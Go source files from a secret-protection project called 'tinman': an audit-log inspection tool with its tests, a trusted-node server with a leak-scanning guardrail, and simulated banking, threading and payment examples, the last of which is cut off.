			k = "(none)"
		}
		t := m[k]
		if t == nil {
			t = &tally{}
			m[k] = t
		}
		if e.Outcome == audit.OutcomeAllowed {
			t.allowed++
		} else {
			t.denied++
		}
	}
	for _, e := range entries {
		bump(perCor, e.CorID, e)
		bump(perDev, e.DeviceID, e)
	}
	printTally := func(title string, m map[string]*tally) {
		fmt.Printf("%s\n", title)
		keys := make([]string, 0, len(m))
		for k := range m {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			fmt.Printf("  %-32s allowed %5d  denied %5d\n", k, m[k].allowed, m[k].denied)
		}
	}
	printTally("by cor:", perCor)
	printTally("by device:", perDev)
}
