// Command tinman-audit inspects a persisted trusted-node audit log (the
// JSON-lines file written by tinman-node -audit): filtering, summarizing,
// and anomaly scanning — the "reported to the user" side of §3.4.
//
// Usage:
//
//	tinman-audit audit.jsonl                    # list everything
//	tinman-audit -cor bank-pw audit.jsonl       # one cor's history
//	tinman-audit -device nexus-1 audit.jsonl    # one device's history
//	tinman-audit -denied audit.jsonl            # denials only
//	tinman-audit -summary audit.jsonl           # per-cor/per-device totals
//	tinman-audit -since 2015-04-01T00:00:00Z -until 2015-04-02T00:00:00Z audit.jsonl
//	tinman-audit -json -denied audit.jsonl      # machine-readable output
//	tinman-audit -merge node-a.jsonl node-b.jsonl node-c.jsonl
//	tinman-audit -store /var/lib/tinman         # offline store query
//
// -store opens a tinman-node crash-safe store directory read-only and
// queries the audit log recovered from its snapshot + WAL — works while
// the node is down (or crashed mid-write; recovery tolerates a torn tail)
// and needs no vault passphrase, since only sealed vault records require
// one. All filter flags compose with -store.
//
// -since/-until accept RFC 3339 timestamps or bare dates (2015-04-01,
// midnight UTC) and select the window [since, until). -json re-emits the
// matching entries in the persisted JSON-lines format, so output pipes back
// into tinman-audit.
//
// -merge interleaves several nodes' logs — the per-member files a fleet
// writes — into one stream. Each device's entries are ordered by the
// per-device sequence that travels with its shard (so a device's history
// reads in true order even when it moved between nodes whose clocks and
// global sequences disagree), and sequence gaps or duplicates are reported
// per device on stderr. All other flags compose with -merge.
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"
	"time"

	"tinman/internal/audit"
	"tinman/internal/store"
)

func main() {
	var (
		corID    = flag.String("cor", "", "filter by cor ID")
		device   = flag.String("device", "", "filter by device ID")
		denied   = flag.Bool("denied", false, "show denials only")
		summary  = flag.Bool("summary", false, "print per-cor and per-device totals")
		since    = flag.String("since", "", "only entries at or after this time (RFC 3339 or YYYY-MM-DD)")
		until    = flag.String("until", "", "only entries before this time (RFC 3339 or YYYY-MM-DD)")
		jsonMode = flag.Bool("json", false, "emit matching entries as JSON lines (the persisted format)")
		merge    = flag.Bool("merge", false, "interleave several nodes' logs into one per-device-ordered stream")
		storeDir = flag.String("store", "", "read the audit log from a tinman-node crash-safe store directory (offline, read-only)")
	)
	flag.Parse()
	switch {
	case *storeDir != "":
		if flag.NArg() != 0 || *merge {
			fmt.Fprintln(os.Stderr, "usage: tinman-audit -store <dir> [filter flags]")
			os.Exit(2)
		}
	case flag.NArg() < 1, !*merge && flag.NArg() != 1:
		fmt.Fprintln(os.Stderr, "usage: tinman-audit [flags] audit.jsonl")
		fmt.Fprintln(os.Stderr, "       tinman-audit -merge [flags] node-a.jsonl node-b.jsonl ...")
		fmt.Fprintln(os.Stderr, "       tinman-audit -store <dir> [filter flags]")
		os.Exit(2)
	}

	var logs []*audit.Log
	if *storeDir != "" {
		st, err := store.Open(store.Options{Dir: *storeDir, ReadOnly: true})
		if err != nil {
			fmt.Fprintf(os.Stderr, "tinman-audit: opening store: %v\n", err)
			os.Exit(1)
		}
		l := audit.NewLog(nil)
		l.Restore(st.State().Audit)
		logs = []*audit.Log{l}
	} else {
		logs = make([]*audit.Log, flag.NArg())
		for i, path := range flag.Args() {
			logs[i] = audit.NewLog(nil)
			if err := logs[i].LoadFile(path); err != nil {
				fmt.Fprintf(os.Stderr, "tinman-audit: %v\n", err)
				os.Exit(1)
			}
		}
	}
	log := logs[0]

	q := audit.Query{CorID: *corID, DeviceID: *device}
	if *denied {
		d := audit.OutcomeDenied
		q.Outcome = &d
	}
	var err error
	if q.Since, err = parseTime(*since); err != nil {
		fmt.Fprintf(os.Stderr, "tinman-audit: -since: %v\n", err)
		os.Exit(2)
	}
	if q.Until, err = parseTime(*until); err != nil {
		fmt.Fprintf(os.Stderr, "tinman-audit: -until: %v\n", err)
		os.Exit(2)
	}
	var entries []audit.Entry
	var gaps []string
	if *merge {
		per := make([][]audit.Entry, len(logs))
		for i, l := range logs {
			per[i] = l.Find(q)
		}
		entries, gaps = mergeStreams(per)
	} else {
		entries = log.Find(q)
	}

	if *summary {
		printSummary(entries)
		if *merge {
			reportGaps(gaps)
		}
		return
	}
	if *jsonMode {
		for _, e := range entries {
			line, err := e.WireJSON()
			if err != nil {
				fmt.Fprintf(os.Stderr, "tinman-audit: %v\n", err)
				os.Exit(1)
			}
			fmt.Println(string(line))
		}
		if *merge {
			reportGaps(gaps)
		}
		return
	}
	for _, e := range entries {
		fmt.Println(e.String())
	}
	fmt.Fprintf(os.Stderr, "%d entries", len(entries))
	if *merge {
		fmt.Fprintf(os.Stderr, " from %d logs\n", len(logs))
		reportGaps(gaps)
		return
	}
	if an := log.Anomalies(); len(an) > 0 {
		fmt.Fprintf(os.Stderr, ", %d anomalies:\n", len(an))
		for _, a := range an {
			fmt.Fprintln(os.Stderr, "  "+a.String())
		}
	} else {
		fmt.Fprintln(os.Stderr, ", no anomalies")
	}
}

// mergeStreams interleaves several logs' entries into one stream. Entries
// are grouped per device and ordered by DeviceSeq — the counter that
// travels with the device's shard across nodes — falling back to wall time
// for device-less or pre-sharding (DeviceSeq 0) entries. Streams from
// different devices interleave by time without ever reordering within a
// device. The second return value lists per-device sequence problems:
// missing ranges (an entry lost, or a log file not given) and duplicates
// (the at-most-once guarantee violated somewhere).
func mergeStreams(per [][]audit.Entry) (merged []audit.Entry, gaps []string) {
	queues := map[string][]audit.Entry{}
	total := 0
	for _, entries := range per {
		total += len(entries)
		for _, e := range entries {
			queues[e.DeviceID] = append(queues[e.DeviceID], e)
		}
	}
	for dev, q := range queues {
		sort.SliceStable(q, func(i, j int) bool {
			if q[i].DeviceSeq != q[j].DeviceSeq {
				// Zero (unsequenced) sorts by the time fallback below only
				// against other zeros; against sequenced entries it leads,
				// which keeps pre-sharding history first.
				return q[i].DeviceSeq < q[j].DeviceSeq
			}
			return q[i].Time.Before(q[j].Time)
		})
		gaps = append(gaps, scanSeq(dev, q)...)
	}
	sort.Strings(gaps)

	// K-way merge: repeatedly emit the queue head with the earliest
	// timestamp. Per-device order is already fixed by the sort above; this
	// only decides how the devices interleave.
	devs := make([]string, 0, len(queues))
	for dev := range queues {
		devs = append(devs, dev)
	}
	sort.Strings(devs)
	merged = make([]audit.Entry, 0, total)
	for len(merged) < total {
		best := ""
		found := false
		for _, dev := range devs {
			q := queues[dev]
			if len(q) == 0 {
				continue
			}
			if !found || q[0].Time.Before(queues[best][0].Time) {
				best, found = dev, true
			}
		}
		merged = append(merged, queues[best][0])
		queues[best] = queues[best][1:]
	}
	return merged, gaps
}

// scanSeq walks one device's DeviceSeq-ordered entries and describes every
// missing range and duplicate. Unsequenced entries (DeviceSeq 0) are
// skipped — they carry no ordering claim to violate.
func scanSeq(dev string, q []audit.Entry) (gaps []string) {
	if dev == "" {
		return nil
	}
	prev := uint64(0)
	for _, e := range q {
		if e.DeviceSeq == 0 {
			continue
		}
		switch {
		case prev == 0 && e.DeviceSeq > 1:
			gaps = append(gaps, fmt.Sprintf("device %s: history starts at seq %d (1-%d missing)", dev, e.DeviceSeq, e.DeviceSeq-1))
		case prev != 0 && e.DeviceSeq == prev:
			gaps = append(gaps, fmt.Sprintf("device %s: duplicate seq %d", dev, e.DeviceSeq))
		case prev != 0 && e.DeviceSeq > prev+1:
			gaps = append(gaps, fmt.Sprintf("device %s: gap after seq %d (%d-%d missing)", dev, prev, prev+1, e.DeviceSeq-1))
		}
		prev = e.DeviceSeq
	}
	return gaps
}

func reportGaps(gaps []string) {
	if len(gaps) == 0 {
		fmt.Fprintln(os.Stderr, "per-device sequences: gap-free")
		return
	}
	fmt.Fprintf(os.Stderr, "%d sequence problems:\n", len(gaps))
	for _, g := range gaps {
		fmt.Fprintln(os.Stderr, "  "+g)
	}
}

// parseTime accepts RFC 3339 or a bare date (midnight UTC); "" is the zero
// time (no bound).
func parseTime(s string) (time.Time, error) {
	if s == "" {
		return time.Time{}, nil
	}
	if t, err := time.Parse(time.RFC3339, s); err == nil {
		return t, nil
	}
	if t, err := time.Parse("2006-01-02", s); err == nil {
		return t, nil
	}
	return time.Time{}, fmt.Errorf("cannot parse %q (want RFC 3339 or YYYY-MM-DD)", s)
}

// printSummary aggregates outcomes per cor and per device.
func printSummary(entries []audit.Entry) {
	type tally struct{ allowed, denied int }
	perCor := map[string]*tally{}
	perDev := map[string]*tally{}
	bump := func(m map[string]*tally, k string, e audit.Entry) {
		if k == "" {
			k = "(none)"
		}
		t := m[k]
		if t == nil {
			t = &tally{}
			m[k] = t
		}
		if e.Outcome == audit.OutcomeAllowed {
			t.allowed++
		} else {
			t.denied++
		}
	}
	for _, e := range entries {
		bump(perCor, e.CorID, e)
		bump(perDev, e.DeviceID, e)
	}
	printTally := func(title string, m map[string]*tally) {
		fmt.Printf("%s\n", title)
		keys := make([]string, 0, len(m))
		for k := range m {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			fmt.Printf("  %-32s allowed %5d  denied %5d\n", k, m[k].allowed, m[k].denied)
		}
	}
	printTally("by cor:", perCor)
	printTally("by device:", perDev)
}
