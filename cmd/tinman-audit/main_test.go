package main

import (
	"strings"
	"testing"
	"time"

	"tinman/internal/audit"
)

func entry(dev string, seq uint64, at int) audit.Entry {
	return audit.Entry{
		DeviceID:  dev,
		DeviceSeq: seq,
		Time:      time.Date(2015, 4, 1, 0, 0, at, 0, time.UTC),
		CorID:     "cor",
		Outcome:   audit.OutcomeAllowed,
	}
}

// TestMergeStreams interleaves two nodes' logs for a device that moved
// between them mid-session: the merged stream must follow DeviceSeq even
// where the nodes' clocks disagree with it, and other devices' entries
// interleave by time.
func TestMergeStreams(t *testing.T) {
	// Node A served seqs 1,2 then the shard moved; node B's clock runs
	// behind, so its seq-3 entry is timestamped before A's seq-2.
	nodeA := []audit.Entry{entry("dev-1", 1, 10), entry("dev-1", 2, 20), entry("dev-2", 1, 15)}
	nodeB := []audit.Entry{entry("dev-1", 3, 18), entry("dev-2", 2, 25)}

	merged, gaps := mergeStreams([][]audit.Entry{nodeA, nodeB})
	if len(gaps) != 0 {
		t.Fatalf("unexpected gaps: %v", gaps)
	}
	if len(merged) != 5 {
		t.Fatalf("merged %d entries, want 5", len(merged))
	}
	want := map[string]uint64{}
	for _, e := range merged {
		want[e.DeviceID]++
		if e.DeviceSeq != want[e.DeviceID] {
			t.Fatalf("device %s out of order: seq %d arrived as its entry %d",
				e.DeviceID, e.DeviceSeq, want[e.DeviceID])
		}
	}
}

func TestMergeStreamsReportsGaps(t *testing.T) {
	nodeA := []audit.Entry{entry("dev-1", 1, 1), entry("dev-1", 2, 2), entry("dev-2", 3, 3)}
	// Seq 3 for dev-1 was lost (or its log not supplied); seq 4 survives
	// twice — a replay that executed.
	nodeB := []audit.Entry{entry("dev-1", 4, 4), entry("dev-1", 4, 5)}

	_, gaps := mergeStreams([][]audit.Entry{nodeA, nodeB})
	if len(gaps) != 3 {
		t.Fatalf("got %d problems, want 3: %v", len(gaps), gaps)
	}
	joined := strings.Join(gaps, "\n")
	for _, want := range []string{
		"dev-1: gap after seq 2 (3-3 missing)",
		"dev-1: duplicate seq 4",
		"dev-2: history starts at seq 3 (1-2 missing)",
	} {
		if !strings.Contains(joined, want) {
			t.Fatalf("missing %q in:\n%s", want, joined)
		}
	}
}

// Pre-sharding entries (DeviceSeq 0) merge by time and raise no sequence
// complaints.
func TestMergeStreamsUnsequenced(t *testing.T) {
	nodeA := []audit.Entry{entry("dev-1", 0, 5), entry("", 0, 1)}
	nodeB := []audit.Entry{entry("dev-1", 0, 3)}
	merged, gaps := mergeStreams([][]audit.Entry{nodeA, nodeB})
	if len(gaps) != 0 {
		t.Fatalf("unsequenced entries reported problems: %v", gaps)
	}
	if len(merged) != 3 || !merged[0].Time.Before(merged[1].Time) || !merged[1].Time.Before(merged[2].Time) {
		t.Fatalf("unsequenced entries not in time order: %v", merged)
	}
}
