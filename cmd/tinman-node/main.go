// Command tinman-node runs the trusted-node service over real TCP: the cor
// vault, the policy engine, the audit log and the reseal (payload
// replacement) endpoint that devices call during SSL session injection.
//
// Usage:
//
//	tinman-node -listen :7443
//	tinman-node -listen :7443 -cors cors.json
//	tinman-node -listen :7443 -store /var/lib/tinman
//	tinman-node -listen :7443 -admin 127.0.0.1:7780
//
// With -store set the node runs on the crash-safe storage engine
// (internal/store): every vault mutation, audit append and policy change is
// WAL-logged and fsynced before it is acknowledged, and on boot the node
// recovers from the latest snapshot plus WAL replay — kill -9 at any point
// loses nothing that was acknowledged. Vault records are sealed at rest
// with the passphrase in TINMAN_STORE_KEY. -store supersedes the legacy
// -audit/-vault whole-file persistence flags.
//
// With -admin set the node also serves the control-plane endpoint. The
// read-only half needs no credentials: GET /metrics (Prometheus text
// format), GET /spans (flight-recorder dump as JSON lines), GET /trace
// (Chrome trace_event JSON for chrome://tracing or Perfetto),
// GET /policy/version and GET /policy. The mutating half — POST /policy
// (hot-reload a policy snapshot), POST /revoke, POST /restore and
// POST /class — requires the bearer token in TINMAN_ADMIN_TOKEN; with no
// token in the environment every mutation is refused (fail closed).
// Exports pass through the obs redaction gate, so they never carry cor
// plaintext or vault key material — and the guardrail sweeper continuously
// re-verifies that: every vault plaintext is fingerprinted (raw, hex,
// base64) and every exporter surface plus the audit log and the store
// directory is swept for hits, which are logged and counted in
// guardrail_findings_total.
//
// The optional cors file pre-registers records:
//
//	[
//	  {"id": "bank-pw", "plaintext": "hunter2!", "description": "bank",
//	   "whitelist": ["bank.example.com"]}
//	]
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"net"
	"net/http"
	"os"

	"time"

	"tinman/internal/audit"
	"tinman/internal/cor"
	"tinman/internal/ctl"
	"tinman/internal/ctl/guardrail"
	"tinman/internal/node"
	"tinman/internal/nodeproto"
	"tinman/internal/obs"
	"tinman/internal/store"
)

// corSpec mirrors one entry of the -cors file.
type corSpec struct {
	ID          string   `json:"id"`
	Plaintext   string   `json:"plaintext"`
	Description string   `json:"description"`
	Whitelist   []string `json:"whitelist"`
	// Bind lists app hashes allowed to use the cor.
	Bind []string `json:"bind"`
	// Class is the sensitivity class: "public", "sensitive" (the default)
	// or "server-only" (never ships in DSM payloads).
	Class string `json:"class"`
}

func main() {
	var (
		listen    = flag.String("listen", "127.0.0.1:7443", "address to listen on")
		corsFile  = flag.String("cors", "", "JSON file of cors to pre-register")
		vaultFile = flag.String("vault", "", "encrypted cor vault file (passphrase in TINMAN_VAULT_KEY)")
		auditFile = flag.String("audit", "", "persist the audit log to this JSON-lines file")
		storeDir  = flag.String("store", "", "crash-safe store directory: WAL+snapshot persistence for vault, audit and policy (passphrase in TINMAN_STORE_KEY)")
		admin     = flag.String("admin", "", "serve observability on this address (/metrics, /spans, /trace)")
		quiet     = flag.Bool("quiet", false, "suppress operational logging")
	)
	flag.Parse()

	// With -admin the whole stack is built instrumented: service-level
	// collectors (vault opens, per-reason policy denials) attach at
	// construction, transport-level ones via SetObs.
	srv := nodeproto.NewServer()
	if *admin != "" {
		tr := obs.New(obs.Options{})
		met := obs.NewMetrics()
		srv = nodeproto.NewServerWith(node.New(node.Options{Metrics: met}))
		srv.SetObs(tr, met)
		if err := serveAdmin(srv, tr, met, *admin, *storeDir); err != nil {
			fmt.Fprintf(os.Stderr, "tinman-node: admin: %v\n", err)
			os.Exit(1)
		}
	}
	if !*quiet {
		srv.Logf = log.Printf
	}

	if *storeDir != "" {
		if *auditFile != "" || *vaultFile != "" {
			fmt.Fprintln(os.Stderr, "tinman-node: -store supersedes -audit/-vault; use one persistence mode")
			os.Exit(1)
		}
		pass := os.Getenv("TINMAN_STORE_KEY")
		if pass == "" {
			fmt.Fprintln(os.Stderr, "tinman-node: -store requires TINMAN_STORE_KEY in the environment")
			os.Exit(1)
		}
		st, err := store.Open(store.Options{Dir: *storeDir, Passphrase: pass})
		if err != nil {
			fmt.Fprintf(os.Stderr, "tinman-node: opening store: %v\n", err)
			os.Exit(1)
		}
		defer st.Close()
		if err := srv.Svc.AttachStore(context.Background(), st); err != nil {
			fmt.Fprintf(os.Stderr, "tinman-node: attaching store: %v\n", err)
			os.Exit(1)
		}
		stats := st.Stats()
		log.Printf("tinman-node: store recovered (%d cors, %d audit entries, LSN %d, snapshot LSN %d)",
			srv.Cors.Len(), srv.Audit.Len(), stats.LastLSN, stats.SnapLSN)
	}

	if *auditFile != "" {
		if err := srv.Audit.LoadFile(*auditFile); err != nil {
			fmt.Fprintf(os.Stderr, "tinman-node: loading audit log: %v\n", err)
			os.Exit(1)
		}
		log.Printf("tinman-node: audit log loaded (%d entries)", srv.Audit.Len())
		// Floor each device's shard at the highest persisted per-device
		// sequence, exactly as a fleet floors a failed-over device at its
		// audit watermark: without this a restart would re-mint DeviceSeq
		// from 1 and a later merged view of the log would see duplicates.
		floors := map[string]uint64{}
		for _, e := range srv.Audit.Find(audit.Query{}) {
			if e.DeviceID != "" && e.DeviceSeq > floors[e.DeviceID] {
				floors[e.DeviceID] = e.DeviceSeq
			}
		}
		for dev, seq := range floors {
			srv.Svc.AttachShard(dev, seq)
		}
		// Persist after every appended entry; the log is small and the save
		// is atomic.
		path := *auditFile
		srv.Audit.Subscribe(func(_ audit.Entry) {
			if err := srv.Audit.SaveFile(path); err != nil {
				log.Printf("tinman-node: saving audit log: %v", err)
			}
		})
	}

	if *vaultFile != "" {
		pass := os.Getenv("TINMAN_VAULT_KEY")
		if pass == "" {
			fmt.Fprintln(os.Stderr, "tinman-node: -vault requires TINMAN_VAULT_KEY in the environment")
			os.Exit(1)
		}
		if _, err := os.Stat(*vaultFile); err == nil {
			if err := srv.Cors.LoadVault(*vaultFile, pass); err != nil {
				fmt.Fprintf(os.Stderr, "tinman-node: loading vault: %v\n", err)
				os.Exit(1)
			}
			log.Printf("tinman-node: vault loaded (%d cors)", srv.Cors.Len())
			// Re-establish policy whitelists from the restored records.
			for _, rec := range srv.Cors.List() {
				if rec.Whitelist != nil {
					srv.Policy.SetWhitelist(rec.ID, rec.Whitelist)
				}
			}
		}
		// Persist after every audited operation (registration runs through
		// the protocol, whose activity always appends audit entries or is
		// an admin op at startup); a periodic save keeps it simple.
		defer func() {
			if err := srv.Cors.SaveVault(*vaultFile, pass); err != nil {
				log.Printf("tinman-node: saving vault: %v", err)
			}
		}()
	}

	if *corsFile != "" {
		if err := loadCors(srv, *corsFile); err != nil {
			fmt.Fprintf(os.Stderr, "tinman-node: %v\n", err)
			os.Exit(1)
		}
	}

	if err := srv.ListenAndServe(*listen); err != nil {
		fmt.Fprintf(os.Stderr, "tinman-node: %v\n", err)
		os.Exit(1)
	}
}

// serveAdmin exposes the control plane over HTTP: the read-only
// observability and policy-version endpoints plus the token-gated mutating
// half. It binds the listener synchronously (so a bad address fails at
// startup), serves in the background, and starts the guardrail sweeper.
func serveAdmin(srv *nodeproto.Server, tr *obs.Tracer, m *obs.Metrics, addr, storeDir string) error {
	token := os.Getenv("TINMAN_ADMIN_TOKEN")
	plane, err := ctl.New(ctl.Config{
		Target: srv.Svc,
		Stamp:  srv.Policy.Stamp,
		Export: srv.Policy.Export,
		Audit:  srv.Audit,
		Token:  token,
		Logf:   log.Printf,
	})
	if err != nil {
		return err
	}
	mux := http.NewServeMux()
	plane.Routes(mux, tr, m)

	hs := &http.Server{Addr: addr, Handler: mux}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return err
	}
	log.Printf("tinman-node: control plane on http://%s (/metrics /spans /trace /policy /revoke)", ln.Addr())
	if token == "" {
		log.Printf("tinman-node: TINMAN_ADMIN_TOKEN not set; mutating admin endpoints disabled")
	}
	go func() {
		if err := hs.Serve(ln); err != nil && err != http.ErrServerClosed {
			log.Printf("tinman-node: admin server: %v", err)
		}
	}()
	startGuardrail(srv, tr, m, storeDir)
	return nil
}

// guardrailInterval paces the background leak sweep: frequent enough that
// a leak is caught within seconds, cheap enough (string scans over bounded
// render buffers) to be noise next to request handling.
const guardrailInterval = 5 * time.Second

// startGuardrail runs the leak scanner in the background: every vault
// plaintext is fingerprinted before each sweep (so cors registered at
// runtime are covered), and every exporter surface plus the audit log and
// the store directory is swept. A finding is a redaction failure — it is
// logged loudly and counted in guardrail_findings_total.
func startGuardrail(srv *nodeproto.Server, tr *obs.Tracer, m *obs.Metrics, storeDir string) {
	sc := guardrail.New()
	sw := &guardrail.Sweeper{
		Scanner:  sc,
		Tracer:   tr,
		Metrics:  m,
		Audit:    srv.Audit,
		Findings: m.Counter("guardrail_findings_total"),
	}
	if storeDir != "" {
		sw.Dirs = []string{storeDir}
	}
	go func() {
		for {
			time.Sleep(guardrailInterval)
			for _, rec := range srv.Cors.List() {
				sc.AddSecret(rec.ID, []byte(rec.Plaintext))
			}
			findings, err := sw.SweepOnce()
			if err != nil {
				log.Printf("tinman-node: guardrail sweep: %v", err)
				continue
			}
			for _, f := range findings {
				log.Printf("tinman-node: GUARDRAIL: %s", f)
			}
		}
	}()
}

func loadCors(srv *nodeproto.Server, path string) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	var specs []corSpec
	if err := json.Unmarshal(data, &specs); err != nil {
		return fmt.Errorf("parsing %s: %v", path, err)
	}
	for _, sp := range specs {
		// Skip records a durable store already recovered, so a -cors file
		// stays usable across restarts.
		if srv.Cors.Get(sp.ID) != nil {
			log.Printf("tinman-node: cor %s already recovered, skipping", sp.ID)
			continue
		}
		// Registration goes through the Service so an attached store logs it.
		rec, err := srv.Svc.RegisterCor(context.Background(), sp.ID, sp.Plaintext, sp.Description, sp.Whitelist...)
		if err != nil {
			return err
		}
		if sp.Class != "" {
			class, err := cor.ParseClass(sp.Class)
			if err != nil {
				return fmt.Errorf("cor %s: %v", sp.ID, err)
			}
			if err := srv.Svc.SetCorClass(context.Background(), rec.ID, class); err != nil {
				return err
			}
		}
		for _, h := range sp.Bind {
			if err := srv.Svc.BindApp(rec.ID, h); err != nil {
				return err
			}
		}
		log.Printf("tinman-node: pre-registered cor %s", rec.ID)
	}
	return nil
}
