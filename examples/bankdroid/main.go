// BankDroid: the paper's §4.1 case study — a bank-account manager holding
// credentials for several banks, each stored as a cor on the trusted node.
// The app fetches balances from every bank; some banks require hash-based
// login (the hash of the password is itself a derived cor).
//
//	go run ./examples/bankdroid
package main

import (
	"fmt"
	"log"
	"strings"

	"tinman/internal/apps"
	"tinman/internal/core"
	"tinman/internal/netsim"
	"tinman/internal/vm"
)

// bankDroidSource manages multiple accounts: one login per bank, each
// hashing its own cor placeholder (which triggers offloading per bank).
const bankDroidSource = `
class BankDroid
  ; sync(account, pw1, host1, pw2, host2) -> number of successful logins
  method syncAll 5 16
    invoke r5, BankDroid.loginOne, r0, r1, r2
    invoke r6, BankDroid.loginOne, r0, r3, r4
    add r7, r5, r6
    return r7
  end
  method loginOne 3 12
    invoke r3, BankDroid.buildRequest, r0, r1
    native r4, https_request, r2, r3
    conststr r5, "200 OK"
    indexof r6, r4, r5
    const r7, 0
    iflt r6, r7, fail
    const r8, 1
    return r8
  fail:
    const r8, 0
    return r8
  end
  method buildRequest 2 10
    hash r2, r1              ; per-bank offload trigger (fig 5)
    conststr r3, "POST /login HTTP/1.1\nuser="
    strcat r4, r3, r0
    conststr r5, "&hash="
    strcat r6, r4, r5
    strcat r7, r6, r2
    return r7
  end
end`

func main() {
	world, err := core.NewWorld(core.Config{Seed: 2, Profile: netsim.WiFi, TinManEnabled: true})
	if err != nil {
		log.Fatal(err)
	}

	// Two banks with different passwords for the same user.
	banks := []struct {
		domain, addr, corID, password string
	}{
		{"citi.example", "198.51.100.21", "citi-pw", "citi-secret-9137"},
		{"chase.example", "198.51.100.22", "chase-pw", "chase-secret-4242"},
	}
	servers := make(map[string]*apps.OriginServer)
	for _, b := range banks {
		srv, err := apps.NewOriginServer(world, b.domain, b.addr, map[string]string{"carol": b.password})
		if err != nil {
			log.Fatal(err)
		}
		servers[b.domain] = srv
		// Each password is whitelisted only for its own bank.
		if _, err := world.Node.RegisterCor(b.corID, b.password, "password for "+b.domain, b.domain); err != nil {
			log.Fatal(err)
		}
	}
	if err := world.Device.RefreshCatalog(); err != nil {
		log.Fatal(err)
	}

	app, err := world.Device.InstallApp("bankdroid", bankDroidSource, 128)
	if err != nil {
		log.Fatal(err)
	}
	for _, b := range banks {
		world.Node.BindApp(b.corID, app.Hash())
	}

	// The selection widget shows descriptions, never secrets (§4.1).
	fmt.Println("password selection widget:")
	for _, v := range world.Device.Catalog() {
		fmt.Printf("  [%s] %s\n", v.ID, v.Description)
	}

	pw1, err := world.Device.CorArg(app, "citi-pw")
	if err != nil {
		log.Fatal(err)
	}
	pw2, err := world.Device.CorArg(app, "chase-pw")
	if err != nil {
		log.Fatal(err)
	}
	res, err := app.Run("BankDroid", "syncAll",
		world.Device.StringArg(app, "carol"),
		pw1, world.Device.StringArg(app, "citi.example"),
		pw2, world.Device.StringArg(app, "chase.example"))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nbanks synced successfully: %d/2\n", res.Int)
	fmt.Printf("virtual time: %v; offload round trips: %d; syncs: %d\n",
		app.Report.Total, app.Report.Migrations, app.Report.Syncs)

	// Both banks authenticated with the real hashes...
	for _, b := range banks {
		got := servers[b.domain].SawSubstring(apps.PasswordHash(b.password))
		fmt.Printf("%s verified the real credential: %v\n", b.domain, got)
	}
	// ...while the device heap holds neither password.
	for _, b := range banks {
		for _, o := range app.VM().Heap.Objects() {
			if o.IsStr && strings.Contains(o.Str, b.password) {
				log.Fatalf("SECURITY: %s plaintext on device heap", b.corID)
			}
		}
	}
	fmt.Println("device heap verified clean of both passwords")

	// Cross-bank protection: even the legitimate app cannot send citi's
	// password to chase (the cor<->domain binding, §3.4).
	_, err = app.Run("BankDroid", "loginOne",
		world.Device.StringArg(app, "carol"),
		mustCor(world, app, "citi-pw"),
		world.Device.StringArg(app, "chase.example"))
	fmt.Printf("\nsending citi password to chase.example: %v\n", err)
}

func mustCor(world *core.World, app *core.App, id string) vm.Value {
	val, err := world.Device.CorArg(app, id)
	if err != nil {
		log.Fatal(err)
	}
	return val
}
