// Multithread: the VM's cooperative scheduler (the substrate for COMET's
// multi-threading support, §2.4) running a classic shared-counter workload:
// worker threads bump a monitor-protected counter while a background thread
// computes — with a tiny quantum so slices land inside critical sections,
// proving the monitors provide real mutual exclusion.
//
//	go run ./examples/multithread
package main

import (
	"fmt"
	"log"

	"tinman/internal/taint"
	"tinman/internal/vm"
	"tinman/internal/vm/asm"
)

const source = `
class Bank
  field balance
  method deposit 2 8          ; (account, times)
    const r2, 0
  loop:
    ifge r2, r1, done
    monenter r0
    iget r3, r0, balance
    const r4, 1
    add r3, r3, r4
    iput r3, r0, balance
    monexit r0
    add r2, r2, r4
    goto loop
  done:
    retvoid
  end
  method audit 1 8            ; unsynchronized busywork (report generation)
    const r1, 0
    const r2, 0
  loop:
    ifge r2, r0, done
    add r1, r1, r2
    const r3, 1
    add r2, r2, r3
    goto loop
  done:
    return r1
  end
end`

func main() {
	prog, err := asm.Assemble("bank", source)
	if err != nil {
		log.Fatal(err)
	}
	machine := vm.New(vm.Config{Program: prog, Heap: vm.NewHeap(1, 2), Policy: taint.Off})
	sched := vm.NewScheduler(machine)
	sched.Quantum = 13 // deliberately tiny and odd: slices cut critical sections

	account := machine.Heap.Alloc(prog.Class("Bank"))
	account.Fields[0] = vm.IntVal(0)

	const workers, deposits = 4, 2500
	for i := 0; i < workers; i++ {
		if _, err := sched.Spawn(prog.Method("Bank", "deposit"), vm.RefVal(account), vm.IntVal(deposits)); err != nil {
			log.Fatal(err)
		}
	}
	auditor, err := sched.Spawn(prog.Method("Bank", "audit"), vm.IntVal(50000))
	if err != nil {
		log.Fatal(err)
	}

	if err := sched.RunAll(); err != nil {
		log.Fatal(err)
	}

	balance := account.Fields[0].Int
	fmt.Printf("%d workers x %d deposits, quantum %d instructions\n", workers, deposits, sched.Quantum)
	fmt.Printf("final balance: %d (expected %d)\n", balance, workers*deposits)
	fmt.Printf("scheduling slices: %d; auditor result: %d\n", sched.Slices, auditor.Result.Int)
	if balance != workers*deposits {
		log.Fatal("mutual exclusion failed!")
	}
	fmt.Println("monitors held: no lost updates despite mid-critical-section preemption")
}
