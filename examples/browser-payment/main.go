// Browser payment: the paper's §4.2 case study — paying a conference
// registration fee with a credit card whose number and security code are
// cors. The trusted node enforces the §4.2 policy set: a domain whitelist,
// a daily time window, an access-frequency limit, and full auditing.
//
//	go run ./examples/browser-payment
package main

import (
	"fmt"
	"log"
	"strings"
	"time"

	"tinman/internal/apps"
	"tinman/internal/core"
	"tinman/internal/netsim"
	"tinman/internal/policy"
)

// browserSource models the browser's form-fill flow: the dropdown widget
// supplies placeholders for the card fields; submitting the form
// concatenates them into the POST body (triggering offload) and sends it.
const browserSource = `
class Browser
  ; pay(cardNumber, securityCode, host) -> 1 on success
  method pay 3 14
    invoke r3, Browser.fillForm, r0, r1
    native r4, https_request, r2, r3
    conststr r5, "200 OK"
    indexof r6, r4, r5
    const r7, 0
    iflt r6, r7, fail
    const r8, 1
    return r8
  fail:
    const r8, 0
    return r8
  end
  method fillForm 2 12
    conststr r2, "POST /pay HTTP/1.1\nitem=conference-registration&card="
